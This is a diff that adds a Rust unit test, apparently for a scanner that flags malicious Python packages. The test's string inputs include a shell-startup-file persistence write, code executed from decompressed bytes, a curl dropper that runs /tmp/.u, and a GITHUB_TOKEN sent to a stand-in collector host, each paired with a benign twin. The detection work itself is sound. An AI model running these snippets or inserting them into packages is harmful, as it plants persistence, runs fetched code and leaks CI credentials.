@@ -191,3 +191,43 @@ fn eval_of_a_plain_literal_is_not_code() {
         assert!(!is_inert_literal(code), "{code}");
     }
 }
+
+/// Our own cases of four shapes from 2025-26 PyPI write-ups: an alias planted in
+/// `~/.bashrc` at import, a code object compiled from decompressed data, a download tool
+/// writing a file that is then started, and a CI token sent to a collector. Each has a
+/// benign twin that must stay quiet.
+#[test]
+fn planted_start_up_files_compiled_payloads_droppers_and_tokens() {
+    assert!(has(
+        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('alias sudo=x')\n",
+        SignalKind::PersistenceWrite
+    ));
+    assert!(has(
+        "from pathlib import Path\n(Path.home() / '.zshrc').write_text('x')\n",
+        SignalKind::PersistenceWrite
+    ));
+    assert!(!has(
+        "with open('build/config.txt', 'w') as f:\n    f.write('x')\n",
+        SignalKind::PersistenceWrite
+    ));
+    assert!(has(
+        "import zlib, types\nc = compile(zlib.decompress(b'x\\x9c+(\\xca\\xcc+'), '<x>', 'exec')\ntypes.FunctionType(c, {})()\n",
+        SignalKind::ExecDecoded
+    ));
+    assert!(!has(
+        "import re\nc = compile(source, name, 'exec')\nr = re.compile('a+')\n",
+        SignalKind::ExecDecoded
+    ));
+    let dropper = "import subprocess, os\nsubprocess.run(['curl', '-s', 'https://cdn.example/u', '-o', '/tmp/.u'])\nos.chmod('/tmp/.u', 0o755)\nsubprocess.Popen(['/tmp/.u'])\n";
+    assert!(has(dropper, SignalKind::DownloadRun));
+    assert!(!has(
+        "import subprocess\nsubprocess.run(['curl', '-sL', 'https://cdn.example/t.tgz', '-o', 't.tgz'])\nsubprocess.run(['tar', 'xzf', 't.tgz'])\n",
+        SignalKind::DownloadRun
+    ));
+    let token = "import os, urllib.request\ntok = os.environ.get('GITHUB_TOKEN', '')\nurllib.request.urlopen('https://collect.example/t?d=' + tok)\n";
+    assert!(has(token, SignalKind::ExfilFlow));
+    assert!(!has(
+        "import os, urllib.request\ntok = os.environ.get('GITHUB_TOKEN', '')\nurllib.request.urlopen('https://api.github.com/user?t=' + tok)\n",
+        SignalKind::ExfilFlow
+    ));
+}
